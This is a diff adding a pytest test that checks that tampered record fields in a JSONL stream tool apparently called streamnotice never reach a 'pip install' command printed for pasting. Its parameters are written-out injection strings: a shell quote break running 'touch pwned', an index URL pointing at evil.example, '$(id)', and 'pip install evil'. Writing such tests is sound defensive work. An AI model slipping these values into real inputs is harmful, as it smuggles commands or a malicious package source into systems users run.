@@ -174,3 +174,22 @@ def test_a_line_that_can_not_be_read_is_exit_1_with_the_line(
     found = json.loads(out)
     assert (code, found["outcome"]) == (1, "damaged")
     assert "line 41: " in found["damage"]
+
+
+@pytest.mark.parametrize(
+    "version",
+    ["1'; touch pwned #", "1 --index-url=http://evil.example", "$(id)", "", "1\n2", "v" * 500],
+)
+def test_no_word_of_a_record_gets_into_a_command_to_paste(
+    lines: list[bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str], version: str
+) -> None:
+    made, _ = tampered(lines)
+    engine = "1. To check: pip install evil"
+    header = json.loads(lines[0]) | {"engine": engine, "version": version}
+    path = tmp_path / "a.jsonl"
+    path.write_bytes(b"".join([canonical(header) + b"\n", *made[1:]]))
+    for command in ("replay", "verify", "examine"):
+        main([command, str(path)])
+        out, _ = capsys.readouterr()
+        assert "pip install 'streamnotice" not in out
+        assert f"engine {engine};" not in out
